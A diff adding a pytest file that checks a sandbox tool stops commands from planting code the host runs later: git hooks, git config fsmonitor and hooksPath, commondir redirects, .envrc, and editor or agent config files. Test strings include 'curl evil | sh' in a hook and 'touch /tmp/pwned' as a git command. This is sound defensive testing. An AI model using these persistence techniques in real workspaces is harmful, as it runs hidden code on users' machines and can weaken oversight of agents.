@@ -1,0 +1,575 @@
+"""Attack: plant code the host runs later, inside the writable workspace.
+
+Git hooks and git config (``core.hooksPath``, ``core.fsmonitor``) run on the user's next ``git``
+command; ``.envrc`` on their next ``cd`` (direnv); ``.vscode/tasks.json``, ``.mcp.json``,
+``.claude/settings.json`` when their editor or agent opens the project; ``.ringfence.toml``
+widens the sandbox itself. The plan keeps these read-only and uncreatable (see the module
+docstring of ``ringfence.plan`` for exactly which paths, at which depth). Each test tries to write,
+create, replace, move or delete one, checks the host afterwards, and runs the same attack with the
+guard removed (``--profile full-access``) to show it would have worked.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from tests.conftest import World
+
+
+@pytest.fixture(autouse=True)
+def _world_visible_in_sandbox(world: World) -> None:
+    """The sandbox replaces /tmp, /var/tmp and /run: a test world under them is invisible inside,
+    and an attack on it would fail for the wrong reason. Refuse to run there."""
+    base = world.base.resolve()
+    for hidden in ("/tmp", "/var/tmp", "/run"):
+        if base.is_relative_to(hidden):
+            pytest.fail(f"the test root {base} is under {hidden}, which the sandbox replaces; "
+                        "set RINGFENCE_TEST_ROOT to a directory elsewhere")
+
+HOOK = "#!/bin/sh\necho HOOK-RAN > \"$(git rev-parse --show-toplevel)/hook-ran\"\n"
+
+
+# ---------------------------------------------------------------------------------------------
+# Helpers.
+
+def _git_env(world: World) -> dict[str, str]:
+    return {**os.environ, **world.env, "GIT_CONFIG_NOSYSTEM": "1",
+            "GIT_AUTHOR_NAME": "T", "GIT_AUTHOR_EMAIL": "t@example.invalid",
+            "GIT_COMMITTER_NAME": "T", "GIT_COMMITTER_EMAIL": "t@example.invalid"}
+
+
+def _git(world: World, *args: str, cwd: Path, check: bool = True
+         ) -> subprocess.CompletedProcess[str]:
+    """``git ARGS`` on the host (outside the sandbox), as the user would run it later."""
+    return subprocess.run(["git", *args], cwd=cwd, env=_git_env(world), check=check,
+                          capture_output=True, text=True, timeout=30)
+
+
+def _repo(world: World, path: Path) -> Path:
+    """A repository with one commit at ``path``, made on the host."""
+    path.mkdir(parents=True, exist_ok=True)
+    _git(world, "init", "-q", "-b", "main", cwd=path)
+    _git(world, "config", "user.email", "t@example.invalid", cwd=path)
+    _git(world, "config", "user.name", "T", cwd=path)
+    (path / "README").write_text("hello\n")
+    _git(world, "add", "README", cwd=path)
+    _git(world, "commit", "-q", "-m", "init", cwd=path)
+    return path
+
+
+def _tree(root: Path) -> dict[str, tuple[str, int]]:
+    """Every path under ``root`` (relative) with its kind and size: what a leftover would show."""
+    out: dict[str, tuple[str, int]] = {}
+    for dirpath, dirnames, filenames in os.walk(root):
+        for name in dirnames + filenames:
+            path = os.path.join(dirpath, name)
+            st = os.lstat(path)
+            kind = "dir" if name in dirnames else "link" if os.path.islink(path) else "file"
+            out[os.path.relpath(path, root)] = (kind, 0 if kind == "dir" else st.st_size)
+    return out
+
+
+def _snapshot(paths: list[Path]) -> dict[str, object]:
+    """Contents (files), listings (directories) or absence of each path, to compare later."""
+    out: dict[str, object] = {}
+    for path in paths:
+        if path.is_symlink():
+            out[str(path)] = ("link", os.readlink(path))
+        elif path.is_dir():
+            out[str(path)] = ("dir", sorted(os.listdir(path)))
+        elif path.exists():
+            out[str(path)] = ("file", path.read_bytes(), os.stat(path).st_mode)
+        else:
+            out[str(path)] = None
+    return out
+
+
+def _each_refused(world: World, attacks: list[str], *options: str,
+                  cwd: Path | None = None) -> None:
+    """Run every attack in one sandbox; each that succeeds prints ESCAPED and fails the test."""
+    script = "\n".join(f"( {attack} ) >/dev/null 2>&1 && echo 'ESCAPED: {i}'"
+                       for i, attack in enumerate(attacks))
+    result = world.sandbox(script, *options, cwd=cwd)
+    escaped = [attacks[int(line.split(": ")[1])] for line in result.stdout.splitlines()
+               if line.startswith("ESCAPED: ")]
+    assert not escaped, f"these attacks succeeded in the sandbox: {escaped}"
+
+
+def _each_works_unsandboxed(world: World, attacks: list[str], cwd: Path | None = None) -> None:
+    """The control: with the guard removed, every attack works (run one by one, in order)."""
+    for attack in attacks:
+        result = world.unsandboxed(attack, cwd=cwd)
+        assert result.returncode == 0, f"control {attack!r} failed: {result.stderr}"
+
+
+def _start(world: World, script: str, cwd: Path | None = None) -> subprocess.Popen[str]:
+    return subprocess.Popen(
+        [sys.executable, "-m", "ringfence", "run", "--", "/bin/sh", "-c", script],
+        cwd=cwd or world.workspace, env=dict(world.env), stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE, text=True,
+    )
+
+
+def _wait_for(path: Path, timeout: float = 10) -> None:
+    deadline = time.monotonic() + timeout
+    while not path.exists():
+        assert time.monotonic() < deadline, f"{path} never appeared"
+        time.sleep(0.02)
+
+
+WAIT = "n=0; while [ ! -e {go} ] && [ $n -lt 400 ]; do sleep 0.025; n=$((n+1)); done"
+
+
+# ---------------------------------------------------------------------------------------------
+# The repository at the top of the workspace.
+
+def test_write_git_hook(world: World) -> None:
+    """Create ``.git/hooks/pre-commit``: runs on the user's next ``git commit``."""
+    world.git_init()
+    hook = world.workspace / ".git" / "hooks" / "pre-commit"
+    script = f"printf '{HOOK}' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"
+    assert world.sandbox(script).returncode != 0
+    assert not hook.exists()
+    assert world.unsandboxed(script).returncode == 0
+    assert hook.exists()
+
+
+def test_overwrite_existing_git_hook(world: World) -> None:
+    """Replace a hook the user already has (overwrite in place, and by rename over it)."""
+    world.git_init()
+    hook = world.workspace / ".git" / "hooks" / "pre-commit"
+    hook.write_text("#!/bin/sh\nexit 0\n")
+    hook.chmod(0o755)
+    attacks = ["echo 'curl evil | sh' >> .git/hooks/pre-commit",
+               "echo 'curl evil | sh' > evil && mv -f evil .git/hooks/pre-commit",
+               "ln -sf /bin/true .git/hooks/post-checkout",
+               "chmod 777 .git/hooks/pre-commit"]
+    _each_refused(world, attacks)
+    assert hook.read_text() == "#!/bin/sh\nexit 0\n"
+    assert hook.stat().st_mode & 0o777 == 0o755
+    assert not (world.workspace / ".git" / "hooks" / "post-checkout").exists()
+    _each_works_unsandboxed(world, attacks)
+    assert "evil" in hook.read_text()
+
+
+@pytest.mark.parametrize("edit", [
+    "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config",
+    "sed -i 's/bare = false/bare = false\\n\\tfsmonitor = evil/' .git/config",
+    "cp .git/config c && printf '[core]\\n\\tfsmonitor = evil\\n' >> c && mv -f c .git/config",
+])
+def test_edit_git_config(world: World, edit: str) -> None:
+    """Edit ``.git/config`` directly (append, ``sed -i``, replace by rename): ``core.hooksPath``
+    or ``core.fsmonitor`` name a program git runs on the user's next command."""
+    world.git_init()
+    config = world.workspace / ".git" / "config"
+    before = config.read_bytes()
+    assert world.sandbox(edit).returncode != 0
+    assert config.read_bytes() == before
+    assert world.unsandboxed(edit).returncode == 0
+    assert config.read_bytes() != before
+
+
+@pytest.mark.parametrize("key", ["core.fsmonitor", "core.hooksPath", "core.sshCommand"])
+def test_git_config_command(world: World, key: str) -> None:
+    """``git config KEY evil`` from inside (git's own lock-and-rename write of .git/config)."""
+    world.git_init()
+    config = world.workspace / ".git" / "config"
+    before = config.read_bytes()
+    script = f"git config {key} 'touch /tmp/pwned'"
+    assert world.sandbox(script).returncode != 0
+    assert config.read_bytes() == before
+    assert _git(world, "config", key, cwd=world.workspace, check=False).stdout == ""
+    assert world.unsandboxed(script).returncode == 0
+    assert _git(world, "config", key, cwd=world.workspace).stdout.strip() == "touch /tmp/pwned"
+
+
+def test_create_git_config_worktree(world: World) -> None:
+    """Create the missing ``.git/config.worktree`` (read when extensions.worktreeConfig is set)."""
+    world.git_init()
+    path = world.workspace / ".git" / "config.worktree"
+    script = "printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config.worktree"
+    assert world.sandbox(script).returncode != 0
+    assert not path.exists()
+    assert world.unsandboxed(script).returncode == 0
+    assert path.exists()
+
+
+@pytest.mark.parametrize("name", [
+    ".envrc", ".vscode/tasks.json", ".mcp.json", ".claude/settings.json", ".ringfence.toml",
+    ".idea/workspace.xml", ".cursor/mcp.json", ".codex/config.toml", ".agents/x.md",
+])
+def test_create_missing_protected_name(world: World, name: str) -> None:
+    """Create a protected file that does not exist yet (with its directory, where it has one)."""
+    path = world.workspace / name
+    top = world.workspace / name.split("/")[0]
+    script = f"mkdir -p \"$(dirname {name})\"; printf 'profile = \"full-access\"\\n' > {name}"
+    assert world.sandbox(script).returncode != 0
+    assert not top.exists()  # not even an empty directory or placeholder was left
+    assert world.unsandboxed(script).returncode == 0
+    assert path.exists()
+
+
+def test_existing_protected_dir_read_only(world: World) -> None:
+    """An existing ``.vscode`` directory: adding ``tasks.json`` or changing a file in it fails."""
+    vscode = world.workspace / ".vscode"
+    vscode.mkdir()
+    (vscode / "settings.json").write_text("{}\n")
+    attacks = ["echo '{\"tasks\": []}' > .vscode/tasks.json",
+               "echo '{\"x\": 1}' > .vscode/settings.json",
+               "mv .vscode .vscode.old",
+               "rm -rf .vscode"]
+    before = _snapshot([vscode, vscode / "settings.json"])
+    _each_refused(world, attacks)
+    assert _snapshot([vscode, vscode / "settings.json"]) == before
+    _each_works_unsandboxed(world, attacks[:2])
+    assert (vscode / "tasks.json").exists()
+
+
+def test_replace_git_by_renaming_it(world: World) -> None:
+    """Move the whole ``.git`` away and build a new one with a hook in its place."""
+    world.git_init()
+    hooks = world.workspace / ".git" / "hooks"
+    script = (f"mv .git .git2 && mkdir -p .git/hooks && cp -r .git2/. .git/ 2>/dev/null; "
+              f"printf '{HOOK}' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")
+    assert world.sandbox(script).returncode != 0
+    assert not (world.workspace / ".git2").exists()
+    assert not (hooks / "pre-commit").exists()
+    assert _git(world, "log", "--oneline", cwd=world.workspace).stdout.count("\n") == 1
+    assert world.unsandboxed(script).returncode == 0
+    assert (hooks / "pre-commit").exists()
+
+
+def test_rename_hooks_dir_away(world: World) -> None:
+    """Rename ``.git/hooks`` (or ``.git/config``) away and create a new one in its place."""
+    world.git_init()
+    git = world.workspace / ".git"
+    watched = [git / "hooks", git / "config", git / "hooks.old", git / "config.old"]
+    before = _snapshot(watched)
+    attacks = [f"mv .git/hooks .git/hooks.old && mkdir .git/hooks && "
+               f"printf '{HOOK}' > .git/hooks/pre-commit",
+               "mv .git/config .git/config.old && printf '[core]\\n\\tfsmonitor = x\\n' "
+               "> .git/config"]
+    _each_refused(world, attacks)
+    assert _snapshot(watched) == before
+    _each_works_unsandboxed(world, attacks)
+    assert (git / "hooks.old").exists()
+
+
+def test_delete_git_config(world: World) -> None:
+    """Delete ``.git/config`` (git would then use defaults the attacker prepared elsewhere)."""
+    world.git_init()
+    config = world.workspace / ".git" / "config"
+    before = config.read_bytes()
+    script = "rm -f .git/config && test ! -e .git/config"
+    assert world.sandbox(script).returncode != 0
+    assert config.read_bytes() == before
+    assert world.unsandboxed(script).returncode == 0
+    assert not config.exists()
+
+
+def test_rm_rf_git(world: World) -> None:
+    """``rm -rf .git``: the hooks and config must survive. (The objects may go: the workspace is
+    the command's to delete; what must not change is what the host later executes or obeys.)"""
+    world.git_init()
+    git = world.workspace / ".git"
+    hook = git / "hooks" / "pre-commit"
+    hook.write_text("#!/bin/sh\nexit 0\n")
+    watched = [git, git / "hooks", hook, git / "config"]
+    config_before = (git / "config").read_bytes()
+    script = "rm -rf .git && test ! -e .git"
+    assert world.sandbox(script).returncode != 0
+    assert (git / "config").read_bytes() == config_before
+    assert hook.read_text() == "#!/bin/sh\nexit 0\n"
+    assert git.is_dir()
+    assert world.unsandboxed(script).returncode == 0
+    assert _snapshot(watched)[str(git)] is None
+
+
+def test_git_init_without_repository_fails(world: World) -> None:
+    """No ``.git`` at the top of the workspace: the sandbox cannot create one (documented: a
+    missing protected name is covered by a placeholder), so it cannot create hooks with it."""
+    script = "git init -q . && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"
+    assert world.sandbox(script).returncode != 0
+    assert not (world.workspace / ".git").exists()
+    assert os.listdir(world.workspace) == []
+    assert world.unsandboxed(script).returncode == 0
+    assert (world.workspace / ".git" / "hooks" / "pre-commit").exists()
+
+
+def test_git_commondir_redirect(world: World) -> None:
+    """Create ``.git/commondir`` naming a directory of the attacker's with a ``config`` and a
+    ``hooks/pre-commit``: git reads the common dir from it for every repository, so the host's
+    next ``git commit`` runs the planted hook although ``.git/hooks`` and ``.git/config`` are
+    untouched."""
+    world.git_init()
+    script = (
+        "set -e; rm -rf evil; mkdir -p evil/hooks; cp -r .git/objects .git/refs evil/; "
+        "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n' > evil/config; "
+        f"printf '{HOOK}' > evil/hooks/pre-commit; chmod +x evil/hooks/pre-commit; "
+        "echo ../evil > .git/commondir"
+    )
+
+    def host_commit() -> bool:
+        (world.workspace / "change.txt").write_text(str(time.monotonic()))
+        _git(world, "add", "change.txt", cwd=world.workspace)
+        _git(world, "commit", "-q", "-m", "user's commit", cwd=world.workspace, check=False)
+        return (world.workspace / "hook-ran").exists()
+
+    world.sandbox(script)
+    commondir = world.workspace / ".git" / "commondir"
+    assert not commondir.exists(), "the sandbox created .git/commondir"
+    assert not host_commit()
+    assert world.unsandboxed(script).returncode == 0
+    assert host_commit()  # the control: the redirect really runs the planted hook
+
+
+# ---------------------------------------------------------------------------------------------
+# Other layouts: linked worktrees, a .git file pointing into the workspace, nested repositories.
+
+def _worktree(world: World, main: Path) -> Path:
+    """A main repository at ``main`` with a linked worktree as the (empty) workspace."""
+    _repo(world, main)
+    _git(world, "worktree", "add", "-q", "-b", "wt", str(world.workspace), cwd=main)
+    return main / ".git" / "worktrees" / world.workspace.name
+
+
+def test_linked_worktree_main_repo_outside(world: World) -> None:
+    """The workspace is a linked worktree (``.git`` is a file) of a repository outside every
+    writable root: its hooks, config and the worktree's gitdir are read-only like all outside."""
+    main = world.outside / "main"
+    gitdir = _worktree(world, main)
+    watched = [main / ".git" / "hooks", main / ".git" / "config", gitdir / "config",
+               gitdir / "commondir", world.workspace / ".git"]
+    before = _snapshot(watched)
+    attacks = [
+        f"printf '{HOOK}' > {main}/.git/hooks/pre-commit",
+        f"printf '[core]\\n\\thooksPath = /x\\n' >> {main}/.git/config",
+        "git config core.fsmonitor evil",
+        f"printf '[core]\\n\\tfsmonitor = evil\\n' > {gitdir}/config",
+        f"echo /elsewhere > {gitdir}/commondir",
+        "echo 'gitdir: /elsewhere' > .git",
+    ]
+    visible = world.sandbox(f"cat {main}/.git/HEAD")
+    assert "refs/heads/main" in visible.stdout, visible.stderr
+    _each_refused(world, attacks)
+    assert _snapshot(watched) == before
+    _each_works_unsandboxed(world, attacks[:4])
+
+
+def test_linked_worktree_main_repo_writable(world: World) -> None:
+    """The same, with the main repository given as another writable root (so commits from the
+    worktree can work, see ``tests/test_workflow.py``): its hooks and config, and the worktree's
+    own gitdir entries, stay read-only; the parents are pinned so none can be renamed away."""
+    main = world.outside / "main"
+    gitdir = _worktree(world, main)
+    opts = ("--writable", str(main))
+    watched = [main / ".git" / "hooks", main / ".git" / "config", main / ".envrc",
+               gitdir / "config", gitdir / "config.worktree", world.workspace / ".git",
+               main / ".git" / "worktrees"]
+    before = _snapshot(watched)
+    attacks = [
+        f"printf '{HOOK}' > {main}/.git/hooks/pre-commit",
+        f"printf '[core]\\n\\thooksPath = /x\\n' >> {main}/.git/config",
+        "git config core.fsmonitor evil",
+        f"printf '[core]\\n\\tfsmonitor = evil\\n' > {gitdir}/config",
+        f"printf '[core]\\n\\tfsmonitor = evil\\n' > {gitdir}/config.worktree",
+        "echo 'gitdir: /elsewhere' > .git",
+        f"mv {gitdir} {gitdir}.old",
+        f"mv {main}/.git {main}/.git.old",
+        f"echo 'eval evil' > {main}/.envrc",
+    ]
+    _each_refused(world, attacks, *opts)
+    assert _snapshot(watched) == before
+    _each_works_unsandboxed(world, attacks[:2])
+
+
+def test_linked_worktree_commondir_rewrite(world: World) -> None:
+    """With the main repository writable, rewrite ``.git/worktrees/NAME/commondir`` to name a
+    directory of the attacker's: git in the worktree then takes config and hooks from there."""
+    main = world.outside / "main"
+    gitdir = _worktree(world, main)
+    commondir = gitdir / "commondir"
+    before = commondir.read_text()
+    script = f"echo {world.workspace}/evil > {commondir}"
+    world.sandbox(script, "--writable", str(main))
+    assert commondir.read_text() == before
+    assert world.unsandboxed(script).returncode == 0
+    assert commondir.read_text() != before
+
+
+def test_gitdir_file_into_workspace(world: World) -> None:
+    """Submodule-style layout: ``.git`` is a file (``gitdir: .git-real``) and the git directory
+    is inside the workspace. Its hooks and config, the ``.git`` file, and the git directory's
+    name are all protected."""
+    _git(world, "init", "-q", "-b", "main", "--separate-git-dir",
+         str(world.workspace / ".git-real"), str(world.workspace), cwd=world.workspace)
+    real = world.workspace / ".git-real"
+    watched = [real / "hooks", real / "config", real / "config.worktree",
+               world.workspace / ".git", world.workspace / ".git-real.old"]
+    before = _snapshot(watched)
+    attacks = [
+        f"printf '{HOOK}' > .git-real/hooks/pre-commit",
+        "printf '[core]\\n\\thooksPath = /x\\n' >> .git-real/config",
+        "git config core.fsmonitor evil",
+        "printf '[core]\\n\\tfsmonitor = x\\n' > .git-real/config.worktree",
+        "echo 'gitdir: evil' > .git",
+        "mv .git git.old",
+        "mv .git-real .git-real.old && mkdir -p .git-real/hooks",
+        "mv .git-real/hooks .git-real/hooks.old",
+    ]
+    _each_refused(world, attacks)
+    assert _snapshot(watched) == before
+    assert _git(world, "status", "--porcelain", cwd=world.workspace).returncode == 0
+    _each_works_unsandboxed(world, attacks[:3])
+
+
+def test_gitdir_file_into_workspace_commondir(world: World) -> None:
+    """In the submodule-style layout, create ``.git-real/commondir`` pointing elsewhere."""
+    _git(world, "init", "-q", "-b", "main", "--separate-git-dir",
+         str(world.workspace / ".git-real"), str(world.workspace), cwd=world.workspace)
+    commondir = world.workspace / ".git-real" / "commondir"
+    script = "echo ../evil > .git-real/commondir"
+    world.sandbox(script)
+    assert not commondir.exists()
+    assert world.unsandboxed(script).returncode == 0
+
+
+def test_subdirectory_repository(world: World) -> None:
+    """A repository one level down (``sub/.git``, existing): its hooks and config are protected
+    too, and ``sub/.git`` cannot be renamed away."""
+    sub = _repo(world, world.workspace / "sub")
+    git = sub / ".git"
+    watched = [git / "hooks", git / "config", git / "config.worktree", sub / ".git.old"]
+    before = _snapshot(watched)
+    attacks = [
+        f"printf '{HOOK}' > sub/.git/hooks/pre-commit",
+        "printf '[core]\\n\\thooksPath = /x\\n' >> sub/.git/config",
+        "git -C sub config core.fsmonitor evil",
+        "mv sub/.git sub/.git.old && mkdir -p sub/.git/hooks",
+        "mv sub/.git/hooks sub/.git/hooks.old",
+    ]
+    _each_refused(world, attacks)
+    assert _snapshot(watched) == before
+    _each_works_unsandboxed(world, attacks[:3])
+
+
+def test_subdirectory_repository_replaced_by_renaming_its_directory(world: World) -> None:
+    """Rename the directory that holds the sub-repository and create a new repository with a
+    hook under the old name: the user's next ``git commit`` in ``sub`` runs it."""
+    sub = _repo(world, world.workspace / "sub")
+    script = (f"mv sub sub.orig && git init -q sub && printf '{HOOK}' > sub/.git/hooks/pre-commit"
+              " && chmod +x sub/.git/hooks/pre-commit")
+    world.sandbox(script)
+    assert not (world.workspace / "sub.orig").exists(), "sub was renamed away"
+    assert not (sub / ".git" / "hooks" / "pre-commit").exists()
+    assert world.unsandboxed(script).returncode == 0
+
+
+def test_submodule_gitdir_replaced_by_renaming_modules(world: World) -> None:
+    """A submodule's git directory lives in ``.git/modules/lib``; its hooks are protected, but
+    moving ``.git/modules`` aside and making a new ``.git/modules/lib`` swaps them for the
+    attacker's (the submodule's ``.git`` file names the path, not the inode)."""
+    world.git_init()
+    modules = world.workspace / ".git" / "modules"
+    _git(world, "init", "-q", "--bare", str(modules / "lib"), cwd=world.workspace)
+    script = ("mv .git/modules .git/modules.orig && git init -q --bare .git/modules/lib && "
+              f"printf '{HOOK}' > .git/modules/lib/hooks/post-checkout")
+    world.sandbox(script)
+    assert not (world.workspace / ".git" / "modules.orig").exists(), ".git/modules was renamed"
+    assert not (modules / "lib" / "hooks" / "post-checkout").exists()
+    assert world.unsandboxed(script).returncode == 0
+
+
+# ---------------------------------------------------------------------------------------------
+# Placeholders: left behind, and shared between runs.
+
+def test_no_placeholders_left_behind(world: World) -> None:
+    """Missing protected names are covered by placeholders while a command runs; afterwards the
+    workspace must look exactly as before (``git status`` clean, nothing new in ``.git``)."""
+    world.git_init()
+    before = _tree(world.workspace)
+    for script in ("true", "false", "echo x > .envrc", "git status", "ls -la .git"):
+        world.sandbox(script)
+    assert _tree(world.workspace) == before
+    assert _git(world, "status", "--porcelain", "--ignored", cwd=world.workspace).stdout == ""
+
+
+def test_no_placeholders_left_behind_without_repository(world: World) -> None:
+    """The same in a workspace that is not a repository (``.git`` itself is a placeholder)."""
+    (world.workspace / "main.py").write_text("print('hi')\n")
+    for script in ("true", "git init", "echo x > .vscode"):
+        world.sandbox(script)
+    assert os.listdir(world.workspace) == ["main.py"]
+
+
+def test_concurrent_runs_keep_protection(world: World) -> None:
+    """A long run holds placeholders; a short run in the same workspace starts and finishes
+    meanwhile. Its clean-up must not remove what the long run relies on: afterwards the long
+    run still cannot create ``.envrc``."""
+    world.git_init()
+    ws = world.workspace
+    long_run = _start(world, "touch ready; " + WAIT.format(go="go") +
+                      "; rm -f ready go; echo 'eval evil' > .envrc && echo ESCAPED")
+    try:
+        _wait_for(ws / "ready")
+        short = world.sandbox("true")
+        assert short.returncode == 0, short.stderr
+        (ws / "go").touch()
+        out, err = long_run.communicate(timeout=30)
+    finally:
+        long_run.kill()
+        long_run.wait()
+    assert "ESCAPED" not in out, err
+    assert not (ws / ".envrc").exists()
+    assert _git(world, "status", "--porcelain", cwd=ws).stdout == ""
+
+
+def test_run_started_during_another_keeps_protection(world: World) -> None:
+    """The reverse order: a second (long) run starts while the first still holds placeholders;
+    the first finishes and cleans up; the long run then tries to create ``.envrc`` and
+    ``.vscode/tasks.json``."""
+    world.git_init()
+    ws = world.workspace
+    first = _start(world, "touch first-ready; " + WAIT.format(go="first-go"))
+    second = None
+    try:
+        _wait_for(ws / "first-ready")
+        second = _start(world, "touch second-ready; " + WAIT.format(go="second-go") +
+                        "; echo 'eval evil' > .envrc && echo ESCAPED; "
+                        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo ESCAPED")
+        _wait_for(ws / "second-ready")
+        (ws / "first-go").touch()
+        first.communicate(timeout=30)
+        (ws / "second-go").touch()
+        out, err = second.communicate(timeout=30)
+    finally:
+        for proc in (first, second):
+            if proc is not None:
+                proc.kill()
+                proc.wait()
+    assert "ESCAPED" not in out, err
+    assert not (ws / ".envrc").exists()
+    assert not (ws / ".vscode").is_dir()
+
+
+def test_killed_run_placeholders_removed_by_next_run(world: World) -> None:
+    """ringfence is killed (SIGKILL) while its command runs: its placeholders stay on the host.
+    The docs promise the next run removes them; after it the workspace must be clean."""
+    world.git_init()
+    ws = world.workspace
+    before = _tree(ws)
+    proc = _start(world, "touch ready; sleep 30")
+    try:
+        _wait_for(ws / "ready")
+        (ws / "ready").unlink()
+    finally:
+        proc.kill()
+        proc.wait()
+    time.sleep(0.2)  # bwrap and the command die with their parent
+    assert world.sandbox("true").returncode == 0
+    assert _tree(ws) == before
